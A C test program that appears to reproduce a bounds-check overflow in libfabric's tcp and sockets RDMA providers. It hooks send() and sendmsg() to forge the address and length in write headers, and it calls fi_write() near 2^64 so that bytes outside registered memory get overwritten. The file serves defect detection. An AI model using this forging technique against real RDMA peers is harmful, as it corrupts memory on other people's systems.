/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * tcp, sockets: the check of an RDMA operation's bounds forms a sum that wraps. An address
 * and a length that exceed 2^64 together pass it.
 *
 * First by fi_write() alone, to where the memory's address is near 2^64: the target writes there.
 * Then the program replaces address and length in the header of a write, as a hostile peer can:
 * bytes that are not registered change.
 */
#include "defect.h"

#include <endian.h>
#include <sys/syscall.h>
#include <sys/uio.h>

#define SIZE 64u			/* of the registered memory */
#define AT 8u				/* where the write begins, */
#define LENGTH 40u			/* and how long it is, before it is forged */
#define REACH 4096u			/* from the registered memory to the bytes that change */

static bool forged, forging;
static char *memory;
static uint64_t first;			/* the address of the registered memory for the peer */

/* Replaces the address and the length in what is sent, aligned and in either byte order. */
static void forge(void *data, size_t size)
{
	const uint64_t address = first + AT, other = first + REACH;
	const uint64_t length = SIZE - REACH - (uintptr_t)memory;
	uint64_t pair[2];
	size_t i;

	for (i = 0; forging && i + sizeof(pair) <= size; i += sizeof(*pair)) {
		memcpy(pair, (char *)data + i, sizeof(pair));
		if (pair[0] == address && pair[1] == LENGTH) {
			pair[0] = other;
			pair[1] = length;
		} else if (pair[0] == htobe64(address) && pair[1] == htobe64(LENGTH)) {
			pair[0] = htobe64(other);
			pair[1] = htobe64(length);
		} else {
			continue;
		}
		memcpy((char *)data + i, pair, sizeof(pair));
		forging = false;
		forged = true;
	}
}

ssize_t send(int fd, const void *data, size_t size, int flags)
{
	forge((void *)(uintptr_t)data, size);
	return syscall(SYS_sendto, fd, data, size, flags, NULL, 0);
}

ssize_t sendmsg(int fd, const struct msghdr *msg, int flags)
{
	size_t i;

	for (i = 0; i < msg->msg_iovlen; i++)
		forge(msg->msg_iov[i].iov_base, msg->msg_iov[i].iov_len);
	return syscall(SYS_sendmsg, fd, msg, flags);
}

static const char *provider;
static bool wraps;			/* by fi_write() alone */

static void write_outside(void)
{
	const int64_t until = now_ms() + 2000;
	struct fid_ep *active, *passive;
	struct fi_cq_data_entry entry;
	struct fi_eq_cm_entry event;
	char data[LENGTH] = "overwritten";
	struct fid_mr *mr;
	struct node n;
	bool ended;

	memory = shared(2 * REACH);
	msg_open(&n, provider, FI_MSG | FI_RMA);
	msg_pair(&n, &n, msg_listen(&n), &active, &passive);
	first = n.info->domain_attr->mr_mode & FI_MR_VIRT_ADDR ? (uintptr_t)memory : 0;
	must(fi_mr_reg(n.domain, memory, SIZE, FI_REMOTE_WRITE, 0, 7, 0, &mr, NULL));
	forging = !wraps;
	must(fi_write(active, data, LENGTH, NULL, 0,
		      first + (wraps ? UINT64_MAX - 31 - (uintptr_t)memory : AT), fi_mr_key(mr),
		      NULL));
	do {
		cq_one(&n, &entry);
		ended = eq_wait(&n, &event, 0) == FI_SHUTDOWN;
		if (memory[REACH])
			end(SHOWS, "bytes outside the registered memory are overwritten");
	} while (!ended && !is_late(until));
	end(wraps || forged ? ABSENT : FAILED, "no byte changes, and the connection %s",
	    ended ? "ends" : "stays");
}

int main(void)
{
	static const char *const providers[] = { "tcp", "sockets" };
	int status = SKIP, ret;
	unsigned i;

	for (i = 0; i < 4; i++) {
		provider = providers[i / 2];
		wraps = !(i % 2);
		printf("%s, %s: ", provider, wraps ? "fi_write() near 2^64" : "a forged header");
		fflush(stdout);
		ret = bounded(write_outside, 10);
		if (status == SKIP || ret == SHOWS || ret == FAILED)
			status = ret;
	}
	return status;
}
